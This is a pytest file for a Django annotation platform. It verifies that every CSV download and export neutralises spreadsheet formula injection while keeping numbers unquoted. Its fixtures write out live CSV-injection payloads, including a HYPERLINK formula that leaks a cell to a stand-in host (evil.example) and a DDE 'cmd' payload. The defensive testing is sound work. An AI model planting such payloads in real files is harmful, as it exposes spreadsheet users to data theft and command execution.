"""No CSV the platform serves or writes lets a spreadsheet run an imported text as a formula (OWASP, CSV Injection).

The project's summarizer, domain, document id and evaluator name are attacker-chosen texts from imported files; three
annotators disagree on every sentence, so Krippendorff's alpha is negative: over all labels 1 - (n - 1) * 8 /
(2 * 6 * 6) = -2/9 (each of the 4 units has two votes against one: o_01 = o_10 = 1 per unit; n = 12,
n_0 = n_1 = 6); on the first two labels (a and b, who split on every unit) 1 - (n - 1) * 8 / (2 * 4 * 4) = -3/4
(o_01 = o_10 = 1 per unit; n = 8, n_0 = n_1 = 4).
"""

import csv
import io

import pytest
from django.urls import reverse

from annotation.models import Hit, Task, Unit
from corpus.models import Document, Job, Summary, SummarySentence
from exports.csv_files import neutralise
from exports.evaluators import import_evaluator_scores
from exports.tables import TABLES

from .labels import annotate

pytestmark = pytest.mark.usefixtures("numbers_worker")

MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DOMAIN = "@SUM(1)"
DOC_ID = "-2+3+cmd|' /C calc'!A0"
SOURCE = "\t=1+1"
EVALUATOR = "+evil"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(project):
    document = Document.objects.create(project=project, uid="doc-1", doc_id=DOC_ID, source=SOURCE, domain=DOMAIN,
                                       input_type="non-dialogue", length="short", text="A text.", word_count=2,
                                       text_sha256="x")
    summary = Summary.objects.create(document=document, model=MODEL, text="s", text_sha256="y")
    hit = Hit.objects.create(project=project, task=Task.FACT_VERIFICATION, document=document, summary=summary,
                             position=0)
    units = []
    for index in range(4):
        sentence = SummarySentence.objects.create(summary=summary, index=index, text=f"Sentence {index}.")
        units.append(Unit.objects.create(hit=hit, task=Task.FACT_VERIFICATION, position=index,
                                         summary_sentence=sentence, text=sentence.text))
    for name, answers in {"a": [True, False, True, False], "b": [False, True, False, True],
                          "c": [True, True, False, False]}.items():
        annotate(hit, units, answers, name=name)
    scores = io.StringIO()
    csv.writer(scores).writerows([["uid", "model", "faithfulness"], ["doc-1", MODEL, -0.5]])
    import_evaluator_scores(project=project, evaluator=EVALUATOR, filename="scores.csv",
                            data=scores.getvalue().encode())
    return project


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(text: str) -> set[str]:
    """No cell starts a formula; texts are quoted, numbers are not. Returns every cell, for the caller's checks."""
    seen = set()
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell
            seen.add(cell)
    for value in (MODEL, DOMAIN, DOC_ID, SOURCE, EVALUATOR):
        quoted = '"' + neutralise(value).replace('"', '""') + '"'
        assert text.count(value.replace('"', '""')) == text.count(quoted)
    return seen


@pytest.mark.parametrize("value, expected", [
    (MODEL, "'" + MODEL), (DOMAIN, "'@SUM(1)"), (DOC_ID, "'" + DOC_ID), ("+1+1", "'+1+1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    # Numbers stay numbers, and so do texts that are plain numbers (a spreadsheet reads them as numbers).
    (-0.25, -0.25), (-3, -3), (0.0, 0.0), (True, True), (None, None), ("-0.25", "-0.25"), ("+3", "+3"),
    ("-1e-3", "-1e-3"), ("-1+1", "'-1+1"),
])
def test_it_neutralises_what_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected


def test_every_analytics_csv_download_is_safe_and_keeps_numbers(client, hostile, manager):
    client.force_login(manager)
    found = set()
    for table in (*TABLES, f"evaluator-{EVALUATOR}"):
        response = client.get(reverse("exports_table_csv", args=[hostile.slug, table]))
        assert response.status_code == 200, table
        text = response.content.decode()
        # Sentence-level detection needs an evaluator run; imported scores have none, so those two may be empty.
        assert text or table in ("detection", "detection-combinations"), f"{table} is empty: the test proves nothing"
        found |= assert_safe(text)

    assert {"'" + MODEL, "'" + DOMAIN, "'" + EVALUATOR} <= found
    agreement = client.get(reverse("exports_table_csv", args=[hostile.slug, "agreement"])).content.decode()
    overall = agreement.splitlines()[1]
    assert overall.startswith('"fv","overall","all",4,8,"krippendorff_alpha",-0.75,')  # a number, unquoted
    assert '"first two counted labels of each unit",4,12,-0.2222,' in overall


def test_every_export_table_csv_is_safe_and_keeps_numbers(client, hostile, manager, settings, tmp_path,
                                                          django_capture_on_commit_callbacks):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("exports_create", args=[hostile.slug]),
                    {"format": "jsonl", "annotator_labels": "1", "tables": "csv", "dawid_skene": "1"})
    job = Job.objects.get(project=hostile, kind="export")
    assert job.status == Job.Status.DONE, job.error
    names = [name for name in job.result["files"] if name.endswith(".csv")]
    # The project has imported evaluator scores, so the evaluator tables are written too.
    assert sorted(names) == ["alpha.agreement.csv", "alpha.dawid_skene.csv", "alpha.evaluator_benchmark.csv",
                             "alpha.evaluator_detection.csv", "alpha.labels.csv", "alpha.score_table.csv",
                             "alpha.summaries.csv"]
    found, texts = set(), {}
    for name in names:
        response = client.get(reverse("exports_download", args=[hostile.slug, job.pk, name]))
        texts[name] = b"".join(response.streaming_content).decode()
        found |= assert_safe(texts[name])

    assert {"'" + MODEL, "'" + DOMAIN, "'" + DOC_ID, "'" + SOURCE} <= found
    assert '"fv","overall","all",4,8,"krippendorff_alpha",-0.75,' in texts["alpha.agreement.csv"]
    assert '"first two counted labels of each unit",4,12,-0.2222,' in texts["alpha.agreement.csv"]
    labels = cells(texts["alpha.labels.csv"])
    assert labels[0][:4] == ["annotator", "task", "uid", "model"]
    assert {row[3] for row in labels[1:]} == {"'" + MODEL} and len(labels) == 13
